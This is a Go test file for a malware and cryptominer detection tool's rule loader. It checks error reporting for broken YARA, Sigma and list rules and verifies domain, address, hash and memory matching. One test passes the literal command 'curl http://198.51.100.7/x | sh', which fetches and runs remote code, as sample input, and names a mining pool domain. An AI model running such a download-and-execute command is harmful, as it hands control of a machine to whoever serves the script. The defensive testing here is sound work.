package match

import (
	"errors"
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/deminer/deminer/rules"
)

// TestBrokenRulesAreAllNamed: a directory with faults in every format is refused whole, and each fault is named by file and line.
func TestBrokenRulesAreAllNamed(t *testing.T) {
	user := fstest.MapFS{
		"a.txt":         {Data: []byte("#! type=domain\tstrength=strong\ngood.example.org\nnot a host\nbad.example.org\tstrenth=x\n")},
		"b.yar":         {Data: []byte("rule good { condition: true }\nrule bad {\n condition: $nothing }\nrule worse { condition: and }\n")},
		"c.yml":         {Data: []byte("title: t\nlogsource: {product: linux}\ndetection:\n  a:\n    X|nonsense: 1\n  condition: a\n")},
		"d.yara":        {Data: []byte("import \"cuckoo\"\nrule r { condition: nothing }\n")},
		"README.md":     {Data: []byte("not a rule")},
		".git/x.yar":    {Data: []byte("broken")},
		"samples/x.yar": {Data: []byte("broken")},
	}
	_, err := Load(rules.FS, user)
	var probs Problems
	if !errors.As(err, &probs) {
		t.Fatalf("error %v is not Problems", err)
	}
	for _, want := range []string{"rules-1/a.txt:3:", "rules-1/a.txt:4:", "rules-1/b.yar:3:13: rule bad: undefined string $nothing", "rules-1/b.yar:4:", "rule worse", "rules-1/c.yml:5:7: rule t: field \"X\": unknown modifier", `rules-1/d.yara:1:8: unknown module "cuckoo"`} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error does not name %q:\n%v", want, err)
		}
	}
	if strings.Contains(err.Error(), "samples/") || strings.Contains(err.Error(), ".git") {
		t.Errorf("files that are no rules were read: %v", err)
	}
	if got := Check(user); len(got) < 7 {
		t.Errorf("Check found %d problems: %v", len(got), got)
	}
}

func TestUserRulesJoin(t *testing.T) {
	user := fstest.MapFS{
		"mine.txt": {Data: []byte("#! type=domain\tstrength=strong\tclass=mining\twhat=our own\npool.corp.example\n#! type=addr\tstrength=strong\n192.0.2.0/24\n198.51.100.4:443\n#! type=hash\tstrength=proof\n" + strings.Repeat("ab", 32) + "\n")},
		"mine.yar": {Data: []byte("rule own : tagged { meta: strength = \"proof\" class = \"backdoor\" what = \"our own\" strings: $a = \"OUR-MARK\" condition: $a }\n")},
	}
	s, err := Load(rules.FS, user)
	if err != nil {
		t.Fatal(err)
	}
	if h := s.Domain("x.pool.corp.example"); len(h) != 1 || h[0].What != "our own" || h[0].Meta["source"] != "rules-1/mine.txt:2" {
		t.Errorf("domain: %+v", h)
	}
	if h := s.Addr(netip.MustParseAddr("192.0.2.77"), 0); len(h) != 1 {
		t.Errorf("prefix: %+v", h)
	}
	if h := s.Addr(netip.MustParseAddr("::ffff:198.51.100.4"), 443); len(h) != 1 {
		t.Errorf("address with port: %+v", h)
	}
	if h := s.Addr(netip.MustParseAddr("198.51.100.4"), 80); len(h) != 0 {
		t.Errorf("address with another port: %+v", h)
	}
	if h := s.Hash(strings.Repeat("AB", 32)); len(h) != 1 || h[0].Strength != Proof {
		t.Errorf("hash: %+v", h)
	}
	h := s.Memory(t.Context(), []byte("xx OUR-MARK"))
	if len(h) != 1 || h[0].Rule != "yara/own" || h[0].Class != Backdoor || h[0].Strength != Proof || h[0].Offset != 3 || h[0].Meta["tags"] != "tagged" {
		t.Errorf("yara: %+v", h)
	}
}

func TestSetIsSafeWithNothing(t *testing.T) {
	s, err := Load(fstest.MapFS{})
	if err != nil {
		t.Fatal(err)
	}
	s.Text("curl http://198.51.100.7/x | sh")
	if h := s.Domain("pool.minexmr.com"); len(h) != 0 {
		t.Errorf("empty set speaks: %v", h)
	}
}
